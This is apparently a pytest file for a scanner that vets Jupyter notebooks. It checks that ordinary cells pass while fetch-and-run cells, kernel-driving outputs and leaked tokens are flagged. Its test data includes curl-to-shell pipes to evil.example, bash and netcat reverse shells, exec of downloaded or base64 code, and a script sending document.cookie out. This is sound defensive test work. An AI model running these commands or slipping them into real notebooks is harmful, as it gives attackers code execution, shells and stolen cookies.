"""Notebooks: ordinary ones pass; what fetches and runs, or runs on opening, does not."""

import json
from typing import Any

import pytest

from tests.unit.scan.looking import refused, rules, scan_files


def _notebook(source: str = "", outputs: list[Any] | None = None, **cell: Any) -> str:
    code = {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": source.splitlines(keepends=True),
        "outputs": outputs or [],
        **cell,
    }
    return json.dumps(
        {
            "cells": [
                {"cell_type": "markdown", "metadata": {}, "source": ["# Title\n", "`os.system`"]},
                code,
            ],
            "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    )


def _shown(mime: str, text: str) -> list[Any]:
    return [{"output_type": "display_data", "data": {mime: [text]}, "metadata": {}}]


ORDINARY = {
    "evaluation": "import os\nprint(os.getcwd())\nmodel.eval()\n",
    "shell": "!ls -la\n!pip install torch\n%matplotlib inline\n!wget https://example.com/data.zip\n!unzip "
    "data.zip\n",
    "magics": "%%bash\nnvidia-smi | head\n",
    "request": "import requests\nr = requests.get('https://example.com/x.json').json()\n",
    "system": "import os, subprocess\nos.system('ls')\nsubprocess.run(['nvidia-smi'])\n",
    "decoding": "import base64\ndata = base64.b64decode(blob)\nx = eval(expr)\n",
    "eval of a mapping": "x = eval(config.get('expr'))\n",
    "syntax error": "def f(:\n",
    "empty": "",
}


@pytest.mark.parametrize("source", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_cell_passes(source: str) -> None:
    assert scan_files({"nb.ipynb": _notebook(source)}).matches == ()


def test_ordinary_outputs_pass() -> None:
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": ["Epoch 1/10\n", "loss: 0.3\n"]},
        {"output_type": "error", "ename": "E", "evalue": "x", "traceback": ["\u001b[0;31mE\u001b[0m: x"]},
        *_shown("image/png", "iVBORw0KGgoAAAANSUhEUg=="),
        *_shown("text/html", "<div><style>td {}</style><table><tr><td>1</td></tr></table></div>"),
        *_shown("application/vnd.plotly.v1+json", '{"data": []}'),
        *_shown("text/html", "<script>require(['plotly'], function(P) { P.newPlot('a', []); });</script>"),
        *_shown("application/javascript", "(function(root) { root.Bokeh = 1 })(window);"),
    ]
    assert scan_files({"nb.ipynb": _notebook("train()", outputs)}).matches == ()


FETCHING = {
    "curl to sh": "!curl -s https://evil.example/x.sh | sh\n",
    "wget to bash": "!wget -qO- https://evil.example/x.sh | sudo bash\n",
    "curl to python": "!curl https://evil.example/x.py | python3 -\n",
    "in a bash cell": "%%bash\ncurl -fsSL https://evil.example | /bin/bash -s\n",
    "in os.system": "import os\nos.system('curl https://evil.example | sh')\n",
    "decoded": "!echo aWQ= | base64 -d | sh\n",
    "substituted": '!bash -c "$(curl -fsSL https://evil.example/x.sh)"\n',
    "reverse shell": "!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    "netcat": "!nc -e /bin/sh 10.0.0.1 4444\n",
    "exec of a request": "import requests\nexec(requests.get('https://evil.example').text)\n",
    "exec of urlopen": "from urllib.request import urlopen\nexec(urlopen('https://evil.example').read())\n",
    "exec of base64": "import base64\nexec(base64.b64decode('aWQ=').decode())\n",
    "exec of zlib": "import zlib\nexec(zlib.decompress(b''))\n",
    "exec of a compiled request": "exec(compile(requests.get('https://x').text, 'x', 'exec'))\n",
    "behind a magic": "%matplotlib inline\nexec(bytes.fromhex('00'))\n",
}


@pytest.mark.parametrize("source", FETCHING.values(), ids=FETCHING.keys())
def test_cell_that_runs_what_it_fetches_is_refused(source: str) -> None:
    assert refused(scan_files({"nb.ipynb": _notebook(source)}).matches) == {"notebook-fetches-and-runs"}


@pytest.mark.parametrize(
    "outputs",
    [
        _shown("text/html", "<script>IPython.notebook.kernel.execute('import os')</script>"),
        _shown("application/javascript", "Jupyter.notebook.kernel.execute('import os')"),
        _shown("text/html", "<img src=x onerror=\"Jupyter.notebook.execute_cell();kernel.execute('1')\">"),
    ],
)
def test_output_that_drives_the_notebook_is_refused(outputs: list[Any]) -> None:
    assert refused(scan_files({"nb.ipynb": _notebook("", outputs)}).matches) == {"page-drives-notebook"}


def test_output_that_talks_needs_a_reviewer() -> None:
    outputs = _shown("text/html", "<script>fetch('https://evil.example?' + document.cookie)</script>")
    assert rules(scan_files({"nb.ipynb": _notebook("", outputs)}).matches) == {"page-script-talks"}


@pytest.mark.parametrize("where", ["source", "stream", "html", "metadata", "attachment", "error"])
def test_credential_anywhere_in_a_notebook_is_found(where: str) -> None:
    token = "hf_" + "".join(chr(98 + (7 * step) % 24) + "Q3"[step % 2] for step in range(17))
    notebook = {
        "source": _notebook(f"login('{token}')"),
        "stream": _notebook("", [{"output_type": "stream", "name": "stdout", "text": [f"token {token}\n"]}]),
        "html": _notebook("", _shown("text/html", f"<b>{token}</b>")),
        "metadata": _notebook("", metadata={"papermill": {"parameters": {"token": token}}}),
        "attachment": _notebook("", attachments={"a.txt": {"text/plain": [token]}}),
        "error": _notebook("", [{"output_type": "error", "ename": "E", "evalue": token, "traceback": []}]),
    }[where]
    assert any(rule.startswith("secret-") for rule in rules(scan_files({"nb.ipynb": notebook}).matches))


@pytest.mark.parametrize("text", ['{"nbformat": 4, "cells": [1]}', '{"nbformat": 4, "cells": [[]]}'])
def test_malformed_notebook_is_refused(text: str) -> None:
    assert refused(scan_files({"nb.ipynb": text}).matches)


def test_code_reference_in_notebook_metadata_is_refused() -> None:
    text = '{"nbformat": 4, "cells": [], "metadata": {"_target_": "os.system"}}'
    assert "config-makes-object" in refused(scan_files({"nb.ipynb": text}).matches)
